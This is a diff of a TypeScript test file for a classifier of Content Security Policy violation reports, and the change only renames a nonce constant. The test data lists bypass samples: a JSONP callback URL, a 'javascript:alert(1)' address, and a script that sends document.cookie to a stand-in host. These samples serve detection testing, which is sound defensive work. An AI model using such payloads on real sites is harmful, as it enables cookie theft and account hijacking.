@@ -9,7 +9,7 @@ type Case = [
   reason: string,
 ];
 
-const NONCE = { 'original-policy': "script-src 'nonce-x' 'strict-dynamic'" };
+const nonce = { 'original-policy': "script-src 'nonce-x' 'strict-dynamic'" };
 const sample = (text: string) => ({ 'script-sample': text, 'source-file': 'https://app.parlance.example/' });
 
 test.each<Case>([
@@ -58,7 +58,7 @@ test.each<Case>([
   ['script-src', 'https://api.github.com/users/x?callback=pwn', {}, 'bypass', 'callback-host'],
   ['script-src', 'https://cdn.jsdelivr.net/npm/x', {}, 'bypass', 'gadget-host'],
   ['script-src', 'https://a.example/angular.js', {}, 'bypass', 'gadget-library'],
-  ['script-src', 'inline', NONCE, 'bypass', 'inline-under-nonce'],
+  ['script-src', 'inline', nonce, 'bypass', 'inline-under-nonce'],
   ['script-src', 'javascript:alert(1)', {}, 'bypass', 'javascript-address'],
   ['require-trusted-types-for', 'trusted-types-sink', {}, 'bypass', 'trusted-types-sink'],
   ['trusted-types', 'trusted-types-policy', {}, 'bypass', 'trusted-types-policy'],
@@ -84,7 +84,7 @@ test.each<Case>([
   ],
   ['script-src', 'inline', {}, 'inline', 'inline-element'],
   ['script-src-attr', 'inline', {}, 'inline', 'inline-attribute'],
-  ['style-src', 'inline', NONCE, 'inline', 'inline-element'],
+  ['style-src', 'inline', nonce, 'inline', 'inline-element'],
   ['script-src', 'eval', {}, 'eval', 'eval'],
   ['script-src', 'wasm-eval', {}, 'eval', 'wasm-eval'],
   ['img-src', 'data', {}, 'data', 'data-content'],
@@ -111,7 +111,7 @@ test.each([
 });
 
 test('K20 a mark of known software excuses no payload, and a known host no base', () => {
-  const inline = { 'violated-directive': 'script-src', 'blocked-uri': 'inline', ...NONCE };
+  const inline = { 'violated-directive': 'script-src', 'blocked-uri': 'inline', ...nonce };
   expect(
     judged({ ...inline, ...sample('/*grammarly*/fetch("//e.example?"+document.cookie)') }).bypassAttempt,
   ).toBe(true);
@@ -138,6 +138,6 @@ test('a policy that only reports, or is built on nonces, keeps no script out', (
   expect(
     judged({ ...eval_, 'original-policy': "script-src 'self'", disposition: 'report' }).classification,
   ).toBe('eval');
-  expect(judged({ ...eval_, ...NONCE }).classification).toBe('eval');
+  expect(judged({ ...eval_, ...nonce }).classification).toBe('eval');
   expect(judged({ ...eval_, 'original-policy': 'script-src https://*.example' }).classification).toBe('eval');
 });
